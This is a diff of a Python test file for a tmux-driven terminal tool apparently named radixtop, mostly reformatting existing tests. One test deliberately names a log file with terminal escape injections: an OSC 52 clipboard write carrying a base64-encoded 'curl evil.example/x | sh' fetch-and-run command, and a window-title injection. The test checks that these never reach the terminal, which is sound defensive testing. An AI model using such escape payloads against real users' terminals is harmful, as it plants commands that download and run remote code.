@@ -34,7 +34,7 @@ def test_an_ascii_locale_gets_ascii_drawing_not_escapes(tmp_path: Path, extra: d
     tmux = Tmux(120, 40)
     try:
         tmux.start([sys.executable, "-m", "radixtop", "--log", str(log), "--no-discover", "--no-gpu"], tmp_path,
-                   env={**env, **extra})  # fmt: skip
+                   env={**env, **extra})
         screen = tmux.wait_for(lambda s: "q Quit" in s and "running-req: 29" in s, "radixtop to draw", timeout=30)
         assert not re.search(r"\\u[0-9a-f]{4}|\\x[0-9a-f]{2}", screen), screen
         assert screen.isascii()
@@ -55,7 +55,7 @@ def _radixtop_pid(tmux: Tmux) -> int:
 
 def _terminal_state(tmux: Tmux) -> str:
     return tmux("display", "-p", "-t", "radixtop", "#{alternate_on} #{cursor_flag} #{mouse_any_flag} "
-                "#{mouse_button_flag} #{mouse_standard_flag} #{mouse_sgr_flag}").strip()  # fmt: skip
+                "#{mouse_button_flag} #{mouse_standard_flag} #{mouse_sgr_flag}").strip()
 
 
 @pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGHUP], ids=["SIGTERM", "SIGHUP"])
@@ -75,7 +75,9 @@ def test_a_signal_restores_the_terminal_and_stops_the_children(tmp_path: Path, s
         os.kill(pid, sig)
         screen = tmux.wait_for(lambda s: "EXITED" in s, "radixtop to exit", timeout=20)
         assert f"EXITED {128 + sig}" in screen
-        assert _terminal_state(tmux) == "0 1 0 0 0 0", "alternate screen, cursor or mouse reporting left as the UI set them"
+        assert _terminal_state(tmux) == "0 1 0 0 0 0", (
+            "alternate screen, cursor or mouse reporting left as the UI set them"
+        )
         assert "Traceback" not in screen
         if demo:
             assert "radixtop demo: stopped the simulator" in screen
@@ -92,7 +94,7 @@ def test_a_terminal_that_goes_away_leaves_no_radixtop_behind(tmp_path: Path, wha
     log = tmp_path / "server.log"
     log.write_text(LINES)
     argv = ([sys.executable, "-m", "radixtop", "--log", str(log), "--no-discover", "--no-gpu"] if what == "ui"
-            else [sys.executable, "-m", "radixtop", "demo", "--fault", "none"])  # fmt: skip
+            else [sys.executable, "-m", "radixtop", "demo", "--fault", "none"])
     tmux = Tmux(120, 40)
     try:
         tmux.start(argv, tmp_path)
@@ -119,13 +121,14 @@ def test_escapes_in_a_log_files_name_and_lines_never_reach_the_terminal(tmp_path
     and none interprets markup."""
     name = "sim\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x1b\\\x1b]2;PWNED_NAME\x1b\\.log"
     log = tmp_path / name
-    log.write_text(LINES + f"[2026-12-02 14:00:02 TP0] RadixCacheError: Failed to lock memory page during dynamic prefix eviction {HOSTILE}\n"
-                   + "".join(f"[2026-12-02 14:00:03 TP0] after {i} {HOSTILE}\n" for i in range(3)))  # fmt: skip
+    log.write_text(LINES + "[2026-12-02 14:00:02 TP0] RadixCacheError: "
+                   f"Failed to lock memory page during dynamic prefix eviction {HOSTILE}\n"
+                   + "".join(f"[2026-12-02 14:00:03 TP0] after {i} {HOSTILE}\n" for i in range(3)))
     raw = tmp_path / "raw.bin"
     tmux = Tmux(160, 48)
     try:
         tmux.start(["sh", "-c", 'printf "\\033]2;BASELINE\\007"; exec "$0" "$@"', sys.executable, "-m", "radixtop",
-                    "--log", str(log), "--no-discover", "--no-gpu", "--from-start", "--readonly"], tmp_path)  # fmt: skip
+                    "--log", str(log), "--no-discover", "--no-gpu", "--from-start", "--readonly"], tmp_path)
         tmux("set", "-g", "set-clipboard", "on")
         tmux("pipe-pane", "-t", "radixtop", "-o", f"cat > {raw}")
         screen = tmux.wait_for(lambda s: "after 2" in s and "Findings (1)" in s, "the hostile lines on screen", 30)
@@ -138,7 +141,7 @@ def test_escapes_in_a_log_files_name_and_lines_never_reach_the_terminal(tmp_path
         tmux.send("Escape")
         title = tmux("display", "-p", "-t", "radixtop", "#{pane_title}").strip()
         buffers = subprocess.run(["tmux", "-L", tmux.socket, "list-buffers"], capture_output=True, text=True,
-                                 timeout=10).stdout  # fmt: skip
+                                 timeout=10).stdout
         written = raw.read_bytes()
     finally:
         tmux.kill()
